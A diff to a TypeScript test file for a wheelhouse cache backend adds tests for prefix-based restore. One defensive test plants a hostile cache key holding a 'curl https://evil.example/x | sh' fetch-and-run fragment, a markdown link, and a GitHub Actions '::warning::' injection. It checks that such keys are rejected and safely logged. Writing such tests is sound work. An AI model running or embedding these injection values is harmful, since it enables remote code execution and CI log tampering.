@@ -102,20 +102,71 @@ describe('LocalDirBackend', () => {
   });
 
   it('restores the newest entry by prefix and keeps entries immutable', async () => {
+    // Keys as cache-key.ts makes them: an entry found by prefix must hold one.
+    const prefix = 'wheelhouse-v1-linux-x64-cp312-';
+    const key = (digit: string): string => prefix + digit.repeat(32);
     let t = 1000;
     const backend = new LocalDirBackend({ dir: cacheDir, logger, now: () => t });
     await fill(wheelhouse, { 'old.whl': 'old' });
-    await backend.save([wheelhouse], 'p-1');
+    await backend.save([wheelhouse], key('1'));
     t = 2000;
     await fill(wheelhouse, { 'new.whl': 'new' });
-    await backend.save([wheelhouse], 'p-2');
+    await backend.save([wheelhouse], key('2'));
     await fill(wheelhouse, { 'other.whl': 'other' });
-    expect(await backend.save([wheelhouse], 'p-2')).toEqual({ saved: false, reason: 'entry already exists' });
+    expect(await backend.save([wheelhouse], key('2'))).toEqual({
+      saved: false,
+      reason: 'entry already exists',
+    });
 
     await rm(wheelhouse, { recursive: true });
-    expect(await backend.restore([wheelhouse], 'p-3', ['p-'])).toEqual({ matchedKey: 'p-2', exact: false });
+    expect(await backend.restore([wheelhouse], key('3'), [prefix])).toEqual({
+      matchedKey: key('2'),
+      exact: false,
+    });
     expect(await contents(wheelhouse)).toEqual({ 'new.whl': 'new' });
-    expect(await backend.restore([wheelhouse], 'q-1', ['q-'])).toEqual({ exact: false });
+    expect(
+      await backend.restore([wheelhouse], 'wheelhouse-v1-linux-x64-cp313-' + '1'.repeat(32), [
+        'wheelhouse-v1-linux-x64-cp313-',
+      ]),
+    ).toEqual({ exact: false });
+  });
+
+  // Review 2 (s12) #6: the key of an entry found by prefix becomes the `cache-matched-key` output,
+  // a log line and the job summary; the directory is writable by others.
+  it('takes by prefix only an entry holding a wheelhouse key named after it; warns about the rest', async () => {
+    const prefix = 'wheelhouse-v1-linux-x64-cp312-';
+    const good = prefix + '1'.repeat(32);
+    const backend = new LocalDirBackend({ dir: cacheDir, logger, now: () => 1000 });
+    await fill(wheelhouse, { 'good.whl': 'good' });
+    await backend.save([wheelhouse], good);
+    const evil = `${prefix}x\` [click](https://evil.example) "; curl https://evil.example/x | sh; echo "\n::warning::hi${'!'.repeat(5000)}`;
+    const plant = async (id: string, key: string): Promise<void> => {
+      await fill(join(cacheDir, 'entries', id), { 'data/0/evil.whl': 'evil' });
+      await writeFile(
+        join(cacheDir, 'entries', id, 'entry.json'),
+        JSON.stringify({ key, createdAt: 9999, bytes: 4, paths: ['directory'] }),
+      );
+    };
+    await plant(localEntryId(evil), evil); // named after its key, but no wheelhouse key
+    await plant(localEntryId(prefix + '2'.repeat(32)), prefix + '3'.repeat(32)); // another entry's name
+    await rm(wheelhouse, { recursive: true });
+    expect(await backend.restore([wheelhouse], prefix + '0'.repeat(32), [prefix])).toEqual({
+      matchedKey: good,
+      exact: false,
+    });
+    expect(await contents(wheelhouse)).toEqual({ 'good.whl': 'good' });
+    const warnings = logger.lines.filter((l) => l.level === 'warn').map((l) => l.message);
+    expect(warnings).toHaveLength(2);
+    expect(warnings.find((w) => w.includes('not a wheelhouse cache key'))).toContain(
+      JSON.stringify(evil.slice(0, 100)) + '…',
+    );
+    expect(warnings.find((w) => w.includes('not the one its directory is named after'))).toContain(
+      JSON.stringify(prefix + '3'.repeat(32)),
+    );
+    for (const w of warnings) {
+      expect(w).not.toContain('\n');
+      expect(w.length).toBeLessThan(400);
+    }
   });
 
   it('never exposes an entry before it is complete, and a crashed save leaves nothing visible', async () => {
